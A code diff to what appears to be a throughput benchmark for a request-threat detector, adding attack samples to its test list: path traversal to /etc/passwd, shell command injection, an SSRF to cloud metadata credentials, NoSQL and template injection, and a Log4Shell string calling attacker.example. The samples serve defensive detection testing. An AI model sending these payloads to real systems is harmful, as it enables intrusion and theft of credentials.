@@ -26,6 +26,8 @@ if (!existsSync(detectorFile)) {
 const anomalyRequire = createRequire(join(root, 'packages/anomaly/package.json'));
 const { RequestThreats, requestThreatsConfigSchema } = anomalyRequire(detectorFile);
 const { extractRequestParts } = anomalyRequire(join(dist, 'threats/requestParts.js'));
+const { THREAT_ENGINES } = anomalyRequire(join(dist, 'threats/threatEngines.js'));
+const engineNames = THREAT_ENGINES.map((e) => e.category).join(', ');
 const { Counters } = anomalyRequire('@sidetap/core');
 
 // mulberry32: the same mix on every run.
@@ -56,7 +58,13 @@ const ATTACKS = [
   ['json', { name: "x' AND SLEEP(5)-- -" }],
   ['header', '<svg/onload=alert(1)>'],
   ['query', 'q=%2527%2520OR%25201%253D1--'],
-];
+  ['query', 'file=..%2F..%2F..%2Fetc%2Fpasswd'],
+  ['json', { host: 'example.com; cat /etc/passwd' }],
+  ['json', { webhook: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' }],
+  ['json', { password: { $ne: null } }],
+  ['json', { greeting: "{{ ''.__class__.__mro__[1].__subclasses__() }}" }],
+  ['header', '${jndi:ldap://attacker.example/a}'],
+]; // one or more attacks per engine
 
 function benignBody() {
   return {
@@ -151,7 +159,7 @@ const partsRate = await measure(async () => {
 const partsPerRequest = events.reduce((n, e) => n + extractRequestParts(e, config.parts).parts.length, 0) / N;
 
 const fmt = (n) => Math.round(n).toLocaleString('en-US').padStart(10);
-console.log(`request_threats on ${N} requests (${attacks} attacks, ${partsPerRequest.toFixed(1)} parts a request), engines: sqli, xss; one core:`);
+console.log(`request_threats on ${N} requests (${attacks} attacks, ${partsPerRequest.toFixed(1)} parts a request), engines: ${engineNames}; one core:`);
 console.log(`  parts only (extract, no engines)  ${fmt(partsRate)} requests/s   (the floor)`);
 console.log(`  request_threats.observe           ${fmt(detectRate)} requests/s   ${(detectRate / partsRate).toFixed(2)}x the floor's rate`);
 console.log(`  without the value memo             ${fmt(noMemoRate)} requests/s   (memoEntries: 0; the memo started over ${memoResets} times above)`);
